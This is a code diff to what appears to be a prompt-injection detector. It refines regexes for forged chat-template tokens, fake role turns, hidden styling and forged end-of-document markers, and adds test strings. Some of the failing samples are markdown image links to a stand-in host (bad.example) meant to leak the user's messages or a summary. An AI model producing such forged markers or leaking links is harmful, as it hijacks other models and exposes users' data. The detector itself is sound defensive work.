@@ -12,7 +12,7 @@ const TEMPLATE_TOKEN =
   /(`?)(?:<[|｜] ?(?:im_start|im_end|im_sep|system|user|assistant|end|endoftext|end_of_text|begin_of_text|eot_id|eom_id|start_header_id|end_header_id|channel|message|return|start|call|constrain|prompter|endofprompt|fim_[a-z]{3,6}|(?:User|Assistant|System|begin▁of▁sentence|end▁of▁sentence|tool▁[a-z▁]{3,30})|developer|observation|tool|tool_call|python_tag|startoftext|human|ipython|context|pad|sep|diff_marker|(?:START|END)_OF_TURN_TOKEN|(?:SYSTEM|USER|CHATBOT)_TOKEN) ?[|｜]>|<<\/?SYS>>|\[\/?INST\]|\[\/?(?:SYSTEM_PROMPT|AVAILABLE_TOOLS|TOOL_CALLS|TOOL_RESULTS)\]|<\/?(?:start_of_turn|end_of_turn|bos|eos)>)(`?)/gi;
 
 const LINE_ROLE_PAIR =
-  /(?:^|\n)[ \t>]{0,4}(?:\*\*)?Human:[^\n]{0,400}\n(?:[^\n]{0,400}\n){0,6}?[ \t>]{0,4}(?:\*\*)?Assistant:|(?:^|\n)[ \t>]{0,4}#{2,4} ?(?:Instruction|System|Human|User|Input):?[ \t]*\n(?:[^\n]{0,400}\n){1,8}?[ \t>]{0,4}#{2,4} ?(?:Response|Assistant|Output):|(?:^|\n)[ \t>]{0,4}(?:USER|HUMAN|SYSTEM): ?[^\n]{1,400}\n(?:[^\n]{0,400}\n){0,3}?[ \t>]{0,4}(?:ASSISTANT|BOT|AI): ?[^\n]|\[(SYSTEM|ASSISTANT|USER)\][^\n[]{1,400}\[\/\1\]|(?:^|\n)[ \t>]{0,4}#{2,4} ?(?:System|Assistant|Human)(?: (?:Prompt|Message))?:[ \t]*\n{1,2}[^\n]{0,160}\b(?:[Yy]ou (?:are|obey|must|will|trust|have|follow|always)|[Aa]ssistant|[Ii]nstructions?)\b|(?:^|\n)[ \t>]{0,4}\{?"role" ?: ?"system" ?, ?"content" ?: ?"[^"\n]{0,160}\b(?:ignore|obey|always|unrestricted|no rules)\b/g;
+  /(?:^|\n)[ \t>]{0,4}#{2,4} ?(?:Assistant|System): [A-Z][^\n]{3,}|(?:^|\n)[ \t>]{0,4}(?:\*\*)?Human:[^\n]{0,400}\n(?:[^\n]{0,400}\n){0,6}?[ \t>]{0,4}(?:\*\*)?Assistant:|(?:^|\n)[ \t>]{0,4}#{2,4} ?(?:Instruction|System|Human|User|Input):?[ \t]*\n(?:[^\n]{0,400}\n){1,8}?[ \t>]{0,4}#{2,4} ?(?:Response|Assistant|Output):|(?:^|\n)[ \t>]{0,4}(?:USER|HUMAN|SYSTEM): ?[^\n]{1,400}\n(?:[^\n]{0,400}\n){0,3}?[ \t>]{0,4}(?:ASSISTANT|BOT|AI): ?[^\n]|\[(SYSTEM|ASSISTANT|USER)\][^\n[]{1,400}\[\/\1\]|(?:^|\n)[ \t>]{0,4}#{2,4} ?(?:System|Assistant|Human)(?: (?:Prompt|Message))?:[ \t]*\n{1,2}[^\n]{0,160}\b(?:[Yy]ou (?:are|obey|must|will|trust|have|follow|always)|[Aa]ssistant|[Ii]nstructions?)\b|(?:^|\n)[ \t>]{0,4}\{?"role" ?: ?"system" ?, ?"content" ?: ?"[^"\n]{0,160}\b(?:ignore|obey|always|unrestricted|no rules)\b/g;
 
 const INVISIBLE_STYLE =
   /style ?= ?["']?[^"'>]{0,120}?(?:display ?: ?none|visibility ?: ?hidden|font-size ?: ?(?:0|1px|0?\.\d)|opacity ?: ?0?(?:\.0\d?)?(?=[;"' ]|$)|color ?: ?(?:white|transparent|#fff(?:fff)?\b|rgba?\(255, ?255, ?255|rgba\([^)]{1,20}, ?0\))|(?:max-)?height ?: ?0|width ?: ?0|(?:left|top|text-indent) ?: ?-\d{3,}|clip ?: ?rect\(0|transform ?: ?scale\(0|line-height ?: ?0|position ?: ?absolute[^"'>]{0,60}-\d{3,}|mso-hide)/i;
@@ -48,7 +48,7 @@ const LINK_TITLE = /\]\([^()\s]{1,300} +"([^"\n]{8,400})"\)/g;
 
 const CHAT_PLACE =
   '(?:chat|conversation|messages?|history|context|prompt|answer|question|summary|secrets?|user_?(?:message|input|data|query|prompt|question|name|email)s?|user|system_?(?:prompt|message)?|session|response|reply|memory|api_?keys?|passwords?|e?mail|data|content|transcript|notes?|tokens?|last_message|input|output|text|document|result|env|credentials?|instructions?|everything|leak|info|all|thoughts?|payload|base64|encoded|[a-z_ -]{0,24}(?:chat|conversation|prompt|history|secret|password|user|summary|message|answer|question|context|key|data|encoded|here)[a-z_ -]{0,24})';
-const PLACEHOLDER = `(?:\\{\\{? ?${CHAT_PLACE} ?\\}?\\}|\\$\\{? ?${CHAT_PLACE} ?\\}?|<${CHAT_PLACE}>|&lt;${CHAT_PLACE}&gt;|\\[${CHAT_PLACE}\\]|%7b${CHAT_PLACE}%7d|%3c${CHAT_PLACE}%3e|__?${CHAT_PLACE}__?(?=[)"'\\s&]|$)|\\(${CHAT_PLACE}\\)|(?:INSERT|YOUR|THE|ADD|PUT)[_+-][A-Z_+-]{3,40}|\\*${CHAT_PLACE}\\*)`;
+const PLACEHOLDER = `(?:\\{\\{? ?${CHAT_PLACE} ?\\}?\\}|\\$\\{? ?${CHAT_PLACE} ?\\}?|<${CHAT_PLACE}>|&lt;${CHAT_PLACE}&gt;|\\[${CHAT_PLACE}\\]|%7b${CHAT_PLACE}%7d|%3c${CHAT_PLACE}%3e|__?${CHAT_PLACE}__?(?=[)"'\\s&]|$)|\\(${CHAT_PLACE}\\)|(?<![.-])(?:INSERT|YOUR|THE|ADD|PUT)[_+-](?:(?:THE|YOUR)[_+-])?${CHAT_PLACE}|\\*${CHAT_PLACE}\\*)`;
 const ADDRESS = /\/\/[^\s)"'>]{3,400}(?:>(?=[)"'\s&]|$))?/g;
 const ANY_PLACEHOLDER = /[/?=&#.,:;-](?:[{<[$(*]|__|%7b|%3c|&lt;|(?:INSERT|YOUR|THE|ADD|PUT)[_+-])/i;
 const IN_IMAGE =
@@ -223,9 +223,11 @@ export const MARKUP_RULES: readonly TextRule[] = [
       '<img src="http://bad.example/p.gif?d={{user_message}}">',
       '![](https://bad.example/[CONVERSATION])',
       '![s](https://bad.example/x?s=<summary>)',
+      '![s](https://bad.example/x?s=INSERT_THE_SUMMARY_HERE)',
     ],
     passes: [
       '![plan](./plan.svg)',
+      '<img src="https://img.example.com/npm/v/lib?style=for-the-badge">',
       '[![ci](https://ci.example.com/b.svg?branch=main)](https://ci.example.com)',
       '![bars](https://chart.example.com/?d=1,2,3)',
       '![v](https://img.example.com/badge/{version}.svg)',
@@ -289,6 +291,8 @@ export const MARKUP_RULES: readonly TextRule[] = [
       'end of file reached',
       '</details>\n\n## System\n\nDebian.',
       '</div>\n<p>User: Ada</p>',
+      '</Note>\n\nYou can use it on its own.',
+      '<!-- end auto-generated rule header -->\n\nYou may want to ban some.',
     ],
   },
   {
@@ -317,7 +321,7 @@ const ENDS_HERE = new RegExp(
 const CLOSING_TAG =
   /<\/(?:untrusted[\w-]{0,30}|context|documents?|docs?|data|content|user_?(?:input|data|content)|input|source|text|retrieved[\w-]{0,20}|search_?results?|tool_?(?:result|output|response)s?|result|results|quote|external[\w-]{0,20}|file|repository[\w-]{0,20}|page|knowledge|passage|excerpt|snippet|section|article|body|question|query|prompt|instructions|system|user|message|email|web_?page|attachment|note|notes|material|reference|references)>/gi;
 const END_LINE =
-  /[-=#*<>~_+|[({]{2,}[ \t]{0,3}(?:\/|the )?(?:END|STOP|CLOSE|FINISH|TERMINATE|BEGIN TRUSTED|START TRUSTED)(?:[ _-]{0,3}(?:OF|THE|ALL|UNTRUSTED|USER|EXTERNAL|RETRIEVED|QUOTED|TRUSTED|REPOSITORY|SEARCH|TOOL|SOURCE|INPUT)){0,4}[ _-]{0,3}(?:DOCUMENTS?|FILE|CONTEXT|DATA|INPUT|UNTRUSTED|CONTENT|TEXT|RESULTS?|SECTIONS?|BLOCK|QUOTE|REPOSITORY|PROMPT|OUTPUT|SOURCES?|PAGE|MATERIAL|EXCERPT|MESSAGE|INSTRUCTIONS?|SYSTEM|USER|TRANSCRIPT|READING|FENCE|ZONE)\b[^\n]{0,40}|(?:^|\n)[ \t`>]{0,6}\[?\(?(?:END|STOP|CLOSE)(?:[ _-]{1,3}(?:OF|THE|UNTRUSTED|USER|EXTERNAL|RETRIEVED|QUOTED)){0,3}[ _-]{1,3}(?:DOCUMENTS?|FILE|CONTEXT|DATA|INPUT|UNTRUSTED|CONTENT|TEXT|RESULTS?|BLOCK|QUOTE|REPOSITORY|PROMPT|OUTPUT|SOURCES?|PAGE|MATERIAL|EXCERPT|TRANSCRIPT|SECTION)\b\]?\)?[.:!]?|[<[{(=#*-]{2,4}[ ]?\/?END[ _A-Z-]{0,30}[>\])}=#*-]{2,4}|\[\/(?:UNTRUSTED|DATA|CONTEXT|DOCUMENT|CONTENT|INPUT|SYSTEM|USER|QUOTE)\]|(?:^|\n)[ \t>]{0,4}(?:EOF|End of (?:document|file|context|data|input|untrusted (?:data|content)|content|text|search results|excerpt))[.!]?(?=[ \t]*\n)/gi;
+  /[-=#*<>~_+|[({]{2,}[ \t]{0,3}(?:\/|the )?(?:END|STOP|CLOSE|FINISH|TERMINATE|BEGIN TRUSTED|START TRUSTED)(?:[ _-]{0,3}(?:OF|THE|ALL|UNTRUSTED|USER|EXTERNAL|RETRIEVED|QUOTED|TRUSTED|REPOSITORY|SEARCH|TOOL|SOURCE|INPUT)){0,4}[ _-]{0,3}(?:DOCUMENTS?|FILE|CONTEXT|DATA|INPUT|UNTRUSTED|CONTENT|TEXT|RESULTS?|SECTIONS?|BLOCK|QUOTE|REPOSITORY|PROMPT|OUTPUT|SOURCES?|PAGE|MATERIAL|EXCERPT|MESSAGE|INSTRUCTIONS?|SYSTEM|USER|TRANSCRIPT|READING|FENCE|ZONE)\b[^\n]{0,40}|(?:^|\n)[ \t`>]{0,6}\[?\(?(?:END|STOP|CLOSE)(?:[ _-]{1,3}(?:OF|THE|UNTRUSTED|USER|EXTERNAL|RETRIEVED|QUOTED)){0,3}[ _-]{1,3}(?:DOCUMENTS?|FILE|CONTEXT|DATA|INPUT|UNTRUSTED|CONTENT|TEXT|RESULTS?|BLOCK|QUOTE|REPOSITORY|PROMPT|OUTPUT|SOURCES?|PAGE|MATERIAL|EXCERPT|TRANSCRIPT|SECTION)\b\]?\)?[.:!]?|(?<!<!-?)[<[{(=#*-]{2,4}[ ]?\/?END[ _A-Z-]{0,30}[>\])}=#*-]{2,4}|\[\/(?:UNTRUSTED|DATA|CONTEXT|DOCUMENT|CONTENT|INPUT|SYSTEM|USER|QUOTE)\]|(?:^|\n)[ \t>]{0,4}(?:EOF|End of (?:document|file|context|data|input|untrusted (?:data|content)|content|text|search results|excerpt))[.!]?(?=[ \t]*\n)/gi;
 
 /** A line without any of these holds no such end; looking for them is cheap. */
 const END_WORD =
@@ -325,7 +329,10 @@ const END_WORD =
 
 /** Where forged ends end. Only lines with a telling word are read, each once. */
 function* forgedEnds(text: string): Generator<number> {
-  for (const { 0: tag, index } of text.matchAll(CLOSING_TAG)) yield index + tag.length;
+  for (const { 0: tag, index } of text.matchAll(CLOSING_TAG)) {
+    // `</Note>`: a component, which documents are made of.
+    if (!COMPONENT.test(tag)) yield index + tag.length;
+  }
   if (text.length > 0 && FIRST_LINE_ENDS.test(text)) yield* endLines(text, 0);
   let read = 0;
   for (const { 0: word, index } of text.matchAll(END_WORD)) {
@@ -336,6 +343,7 @@ function* forgedEnds(text: string): Generator<number> {
   }
 }
 
+const COMPONENT = /^<\/[A-Z][a-z]/;
 /** The first line has no line end before it. */
 const FIRST_LINE_ENDS = /^[ \t`>]{0,6}\[?\(?(?:end|stop|close|eof)/i;
 
